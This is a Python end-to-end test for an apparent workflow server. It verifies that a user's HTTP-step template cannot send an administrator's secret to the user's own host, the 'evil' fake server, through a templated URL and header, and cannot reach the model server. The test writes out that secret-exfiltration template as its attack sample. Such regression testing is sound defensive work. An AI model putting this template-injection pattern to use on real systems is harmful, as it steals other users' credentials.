"""Between users, against a real `orchestra serve` (SPEC §15b), on loopback servers only:

- the issue's reproduction — a plain user's template sending an administrator's
  secret to the user's own host, in the URL and a header — is 422 at save, and when
  the host comes from the run's input the run fails naming the secret and the host;
  the user's host sees no request, and the value is in no answer and no log line;
- with the quick start's `ORCHESTRA_EGRESS_ALLOW=127.0.0.1` (the fake model's
  allowance, for providers), a user's HTTP step posting to the model server fails
  naming `ORCHESTRA_STEP_EGRESS_ALLOW`, and the model server sees nothing.
"""

from __future__ import annotations

import httpx
import pytest

from orchestra.testing.fake_http import FakeHttp
from tests.conftest import ServerProcess
from tests.e2e.test_workflow_e2e import login
from tests.fakes.fake_llm import FakeLLM

pytestmark = pytest.mark.e2e

TOKEN = "admin-token-5e4d3c2b1a09f8e7"


def wait_run(http: httpx.Client, trace_id: str, timeout: float = 30.0) -> dict:
    import time

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        run = http.get(f"/workflow/run/{trace_id}").json()
        if run["status"] in ("succeeded", "failed", "cancelled"):
            return run
        time.sleep(0.1)
    raise AssertionError(f"run {trace_id} did not end: {run['status']}")


def test_a_users_template_cannot_take_an_admins_secret_nor_reach_the_model(tmp_path):
    with FakeHttp() as evil, FakeLLM() as model:
        server = ServerProcess(tmp_path / "home", env={
            "ORCHESTRA_EGRESS_ALLOW": "127.0.0.1",  # the quick start's: the fake model, for providers
            "ORCHESTRA_STEP_EGRESS_ALLOW": f"127.0.0.1:{evil.port}",  # the user's host is reachable
        }).start()
        try:
            api = server.base_url + "/api/v1"
            admin = httpx.Client(base_url=api, timeout=15, headers=login(server, "root", "ADMINISTRATOR"))
            user = httpx.Client(base_url=api, timeout=15, headers=login(server, "mallory"))
            stored = admin.post("/resource/secret", json={"name": "ADMIN_TOKEN", "value": TOKEN,
                                                          "hosts": ["api.admin.example"]})
            assert stored.status_code == 201, stored.text

            # the reproduction as written: refused at save, alike for a name that does not exist
            def take(name: str, base: str) -> list[dict]:
                ref = "{{ secrets." + name + " }}"
                return [{"id": "take", "http": {"method": "GET", "url": base + "/echo?k=" + ref,
                                                "headers": {"X-K": ref}}}]

            saved = user.post("/workflow/template", json={"name": "mine", "steps": take("ADMIN_TOKEN", evil.url)})
            assert saved.status_code == 422, saved.text
            missing = user.post("/workflow/template", json={"name": "mine", "steps": take("NOPE", evil.url)})
            assert saved.json()["detail"][0]["problem"].replace("ADMIN_TOKEN", "N") == \
                missing.json()["detail"][0]["problem"].replace("NOPE", "N")
            assert f"may not be sent to 127.0.0.1:{evil.port}" in saved.json()["detail"][0]["problem"]

            # the host from the run's input: saved, then refused when the step runs
            made = user.post("/workflow/template", json={"name": "later", "steps": take("ADMIN_TOKEN", "{{ input }}")})
            assert made.status_code == 201, made.text
            started = user.post("/workflow/run", json={"template_id": made.json()["template_id"], "input": evil.url})
            run = wait_run(user, started.json()["trace_id"])
            assert run["status"] == "failed"
            assert f"the secret 'ADMIN_TOKEN' may not be sent to 127.0.0.1:{evil.port}" in run["error"], run["error"]

            # the model server, open to providers, is closed to users' steps
            free = user.post("/workflow/template", json={"name": "free", "steps": [{"id": "free", "http": {
                "method": "POST", "url": model.base_url + "/chat/completions",
                "body": {"model": "fake-model", "messages": [{"role": "user", "content": "free tokens"}]}}}]})
            assert free.status_code == 201, free.text
            started = user.post("/workflow/run", json={"template_id": free.json()["template_id"], "input": "x"})
            blocked = wait_run(user, started.json()["trace_id"])
            assert blocked["status"] == "failed"
            assert "ORCHESTRA_STEP_EGRESS_ALLOW" in blocked["error"] and "egress rule" in blocked["error"], \
                blocked["error"]
            answers = [saved.text, missing.text, user.get(f"/workflow/run/{run['trace_id']}").text,
                       user.get(f"/workflow/run/{run['trace_id']}/events").text]
        finally:
            server.stop()
        assert evil.requests == []  # no request reached the user's host
        assert model.requests == []  # nor the model server
        for text in [*answers, server.log_path.read_text()]:
            assert TOKEN not in text
